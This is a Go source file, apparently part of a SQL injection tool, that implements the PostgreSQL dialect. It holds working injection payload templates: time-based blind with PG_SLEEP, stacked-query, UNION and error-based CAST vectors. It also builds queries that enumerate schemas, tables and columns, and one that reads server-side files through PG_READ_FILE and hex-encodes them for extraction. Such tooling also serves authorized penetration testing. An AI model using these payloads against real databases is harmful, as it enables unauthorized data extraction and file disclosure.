package dbms

import (
	"fmt"
	"regexp"
	"strings"
)

// PostgreSQL implements the DBMS interface for PostgreSQL databases.
type PostgreSQL struct{}

var postgresDialect = register(&Dialect{
	Name:     "PostgreSQL",
	Count:    "COUNT(%s)",
	Case:     "SELECT (CASE WHEN (%s) THEN 1 ELSE 0 END)",
	Cast:     "CAST(%s AS TEXT)",
	NullCast: "COALESCE(CAST(%s AS TEXT),' ')",
	Limit: &LimitRule{
		Pattern:    regexp.MustCompile(`(?i)\s+LIMIT\s+(\d+)\s+OFFSET\s+(\d+)`),
		StartGroup: 2,
		StopGroup:  1,
		Marker:     " LIMIT ",
	},
	TimeVector:    "AND [RANDNUM]=(CASE WHEN ([INFERENCE]) THEN (SELECT [RANDNUM] FROM PG_SLEEP([SLEEPTIME])) ELSE [RANDNUM] END)",
	StackedVector: "; SELECT (CASE WHEN ([INFERENCE]) THEN (SELECT [RANDNUM] FROM PG_SLEEP([SLEEPTIME])) ELSE [RANDNUM] END)",
	UnionVector:   "UNION ALL SELECT [QUERY]",
	limitQuery: func(num int, query, fields, field string) string {
		return strings.Replace(query, fields, field, 1) + fmt.Sprintf(" OFFSET %d LIMIT 1", num)
	},
})

// Name returns the canonical DBMS name.
func (p *PostgreSQL) Name() string {
	return "PostgreSQL"
}

// Concatenate returns a PostgreSQL concatenation using the || operator.
func (p *PostgreSQL) Concatenate(parts ...string) string {
	return strings.Join(parts, "||")
}

// Substring returns a PostgreSQL SUBSTRING(expr FROM start FOR length) expression.
func (p *PostgreSQL) Substring(expr string, start, length int) string {
	return fmt.Sprintf("SUBSTRING(%s FROM %d FOR %d)", expr, start, length)
}

// Length returns a PostgreSQL LENGTH(expr) expression.
func (p *PostgreSQL) Length(expr string) string {
	return fmt.Sprintf("LENGTH(%s)", expr)
}

// ASCII returns a PostgreSQL ASCII(expr) expression.
func (p *PostgreSQL) ASCII(expr string) string {
	return fmt.Sprintf("ASCII(%s)", expr)
}

// Char returns a PostgreSQL CHR(code) expression.
func (p *PostgreSQL) Char(code int) string {
	return fmt.Sprintf("CHR(%d)", code)
}

func (p *PostgreSQL) VersionQuery() string     { return "VERSION()" }
func (p *PostgreSQL) CurrentUserQuery() string { return "CURRENT_USER" }
func (p *PostgreSQL) CurrentDBQuery() string   { return "CURRENT_SCHEMA()" }
func (p *PostgreSQL) HostnameQuery() string    { return "INET_SERVER_ADDR()" }

// ListDatabasesQuery lists schemas, which is what PostgreSQL exposes across
// a single connection.
func (p *PostgreSQL) ListDatabasesQuery() string {
	return "SELECT DISTINCT(schemaname) FROM pg_tables"
}

// ListTablesQuery lists the tables of the given schema.
func (p *PostgreSQL) ListTablesQuery(database string) string {
	return fmt.Sprintf("SELECT tablename FROM pg_tables WHERE schemaname=%s", p.QuoteString(database))
}

// ListColumnsQuery lists the columns of schema.table in ordinal order.
func (p *PostgreSQL) ListColumnsQuery(database, table string) string {
	return fmt.Sprintf("SELECT column_name FROM information_schema.columns WHERE table_schema=%s AND table_name=%s ORDER BY ordinal_position",
		p.QuoteString(database), p.QuoteString(table))
}

// TableRef returns the schema-qualified table name.
func (p *PostgreSQL) TableRef(database, table string) string {
	if database == "" {
		return table
	}
	return database + "." + table
}

// ErrorPayloads returns the integer cast error vector; PostgreSQL echoes
// the whole offending value.
func (p *PostgreSQL) ErrorPayloads() []PayloadTemplate {
	return []PayloadTemplate{
		{
			Name:     "cast",
			Template: "AND [RANDNUM]=CAST([QUERY] AS NUMERIC)",
			DBMS:     "PostgreSQL",
		},
	}
}

// SleepFunction returns a PostgreSQL PG_SLEEP(n) expression.
func (p *PostgreSQL) SleepFunction(seconds int) string {
	return fmt.Sprintf("PG_SLEEP(%d)", seconds)
}

// IfThenElse returns a PostgreSQL CASE WHEN ... THEN ... ELSE ... END expression.
func (p *PostgreSQL) IfThenElse(condition, trueExpr, falseExpr string) string {
	return fmt.Sprintf("(CASE WHEN %s THEN %s ELSE %s END)", condition, trueExpr, falseExpr)
}

// QuoteString wraps the string in single quotes, doubling embedded quotes.
func (p *PostgreSQL) QuoteString(s string) string {
	return "'" + strings.ReplaceAll(s, "'", "''") + "'"
}

// CommentSequence returns the PostgreSQL line comment sequence.
func (p *PostgreSQL) CommentSequence() string {
	return "--"
}

// FileReadQuery reads a server-side file with PG_READ_FILE.
func (p *PostgreSQL) FileReadQuery(path string) string {
	return fmt.Sprintf("ENCODE(CONVERT_TO(PG_READ_FILE(%s),'UTF8'),'hex')", p.QuoteString(path))
}

// Capabilities returns the feature set supported by PostgreSQL.
func (p *PostgreSQL) Capabilities() Capabilities {
	return Capabilities{
		StackedQueries: true,
		ErrorBased:     true,
		UnionBased:     true,
		FileRead:       true,
		Subqueries:     true,
		CaseWhen:       true,
		LimitOffset:    true,
		RowLimit:       true,
	}
}
